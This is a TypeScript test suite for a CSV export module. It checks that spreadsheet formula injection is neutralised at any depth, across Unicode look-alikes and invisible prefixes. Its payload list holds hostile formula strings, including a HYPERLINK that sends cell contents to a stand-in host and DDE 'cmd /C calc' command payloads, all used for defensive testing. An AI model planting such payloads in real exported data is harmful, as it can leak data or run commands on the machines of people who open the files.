/* eslint-disable no-control-regex -- the oracle skips control characters too */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import {
  createCsvStream,
  neutraliseSpreadsheetFormula,
  neutraliseSpreadsheetFormulasDeep,
  toCsv,
} from './csv';

const payloads = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0bcmd',
  '\uff20SUM(A1)',
  '\uff0d2+3',
  '"=1+1',
  '" =HYPERLINK("http://evil.example")',
  '""@SUM(A1)',
  '"\t+cmd',
  // Look-alikes a spreadsheet may normalise (NFKC) to = + - @: small forms, superscript, subscript.
  '\ufe62cmd|" /C calc"!A0',
  '\ufe63 2+3',
  '\ufe66HYPERLINK("http://evil.example")',
  '\ufe6bSUM(A1)',
  '\u207a1+1',
  '\u207b1+1',
  '\u207c1+1',
  '\u208a1+1',
  '\u208b1+1',
  '\u208c1+1',
  // Invisible characters before the formula.
  ...[
    '\u00ad',
    '\u034f',
    '\u061c',
    '\u115f',
    '\u1160',
    '\u17b4',
    '\u17b5',
    '\u180e',
    '\u200b',
    '\u200f',
    '\u202a',
    '\u202e',
    '\u2060',
    '\u2064',
    '\u2066',
    '\u206f',
    '\u3164',
    '\ufeff',
    '\uffa0',
  ].map(c => `${c}=HYPERLINK("http://evil.example")`),
  '\u200d\u00ad \ufe66cmd',
];

describe('neutraliseSpreadsheetFormulasDeep', () => {
  it('neutralises every string of a JSON document at any depth and keeps the rest', () => {
    const document = {
      title: 'Evidence',
      props: payloads.map(value => ({ name: 'note', value })),
      nested: { deeper: [[{ remarks: '@SUM(A1)' }]], count: 3, ok: true },
      missing: null,
      '=key': 'plain',
    };
    const safe = neutraliseSpreadsheetFormulasDeep(document);
    expect(safe).toEqual({
      title: 'Evidence',
      props: payloads.map(value => ({ name: 'note', value: `'${value}` })),
      nested: { deeper: [[{ remarks: "'@SUM(A1)" }]], count: 3, ok: true },
      missing: null,
      '=key': 'plain',
    });
    // A copy: the recorded document is left as it was.
    expect(document.nested.deeper[0][0].remarks).toBe('@SUM(A1)');
  });
});

describe('neutraliseSpreadsheetFormula', () => {
  it.each(payloads)('prefixes %j with a quote', payload => {
    expect(neutraliseSpreadsheetFormula(payload)).toBe(`'${payload}`);
  });

  it.each(['-12.5', '42', '+3', '1e-7', '.5', 'plain text', 'a=b', ''])(
    'leaves %j as it is',
    value => {
      expect(neutraliseSpreadsheetFormula(value)).toBe(value);
    },
  );

  it('never lets a cell start a formula, whatever the text', () => {
    expect(() =>
      fc.assert(
        fc.property(
          fc.oneof(
            fc.string({ unit: 'binary' }),
            // Text built from the characters that matter here, so that the rare ones come up.
            fc.string({
              unit: fc.constantFrom(
                ...'=+-@ "\t\u00ad\u200b\u2066\u3164\ufeff\uffa0\ufe62\ufe63\ufe66\ufe6b\u207a\u207b\u207c\u208a\u208b\u208c\uff1d\u2460a1'.split(
                  '',
                ),
              ),
            }),
          ),
          text => {
            const out = neutraliseSpreadsheetFormula(text);
            const start = out.replace(
              /^[\s\u0000-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\u3164\ufeff\uffa0"]+/,
              '',
            );
            const startsFormula =
              /^[=+\-@]/.test(start.slice(0, 2).normalize('NFKC')) &&
              !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(out);
            return out.startsWith("'") || !startsFormula;
          },
        ),
      ),
    ).not.toThrow();
  });
});

describe('toCsv', () => {
  type Row = { name: string; cost: number; tags?: string[] };
  const columns = [
    { header: 'name', value: (r: Row) => r.name },
    { header: 'cost', value: (r: Row) => r.cost },
    { header: 'tags', value: (r: Row) => r.tags },
  ];

  it('writes a header and rows that read back to the neutralised values', () => {
    const csv = toCsv(
      [
        { name: '=HYPERLINK("x")', cost: -2.5, tags: ['a', 'b'] },
        { name: 'line one\nline "two"', cost: 3 },
      ],
      columns,
    );
    expect(parse(csv)).toEqual([
      ['name', 'cost', 'tags'],
      ['\'=HYPERLINK("x")', '-2.5', 'a b'],
      ['line one\nline "two"', '3', ''],
    ]);
  });

  it('writes non-finite numbers as empty cells', () => {
    expect(parse(toCsv([{ name: 'x', cost: Infinity }], columns))[1][1]).toBe(
      '',
    );
  });
});

describe('createCsvStream', () => {
  it('streams the same text toCsv builds', async () => {
    const rows = [{ v: '@cmd' }, { v: '7' }];
    const columns = [{ header: 'v', value: (r: { v: string }) => r.v }];
    const csv = createCsvStream(columns);
    const chunks: string[] = [];
    csv.stream.on('data', c => chunks.push(String(c)));
    const done = new Promise(resolve => csv.stream.on('end', resolve));
    rows.forEach(r => csv.write(r));
    csv.end();
    await done;
    expect(chunks.join('')).toBe(toCsv(rows, columns));
  });
});
